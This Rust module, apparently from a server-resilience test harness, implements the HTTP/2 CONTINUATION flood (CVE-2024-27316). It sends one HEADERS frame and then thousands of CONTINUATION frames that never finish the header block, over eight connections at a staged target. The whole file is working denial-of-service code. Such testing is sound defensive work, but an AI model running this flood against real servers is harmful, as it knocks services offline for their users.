//! CONTINUATION flood (CVE-2024-27316 and others): a head that never ends, in pieces of a kilobyte or of nothing.

use super::attacker::{Field, Flood};
use super::frames::{Block, Frames, Kind};
use super::stage::ATTACKED;

const FLOOD: Flood = Flood { connections: 8, frames: 20_000 };

pub(crate) async fn run(field: &Field) {
    let head = Block::get(ATTACKED, "/");
    let mut more = head.clone();
    more.literal("x-more", &"x".repeat(1_000));
    let piece = more.bytes()[head.bytes().len()..].to_vec();
    field
        .flood(FLOOD, move |connection| {
            let (head, mut begun) = (head.clone(), false);
            let piece = if connection % 2 == 0 { piece.clone() } else { Vec::new() };
            move |frames: &mut Frames| {
                if !begun {
                    begun = true;
                    frames.push(Kind::Headers, 0, 1, head.bytes());
                }
                frames.push(Kind::Continuation, 0, 1, &piece);
            }
        })
        .await;
}
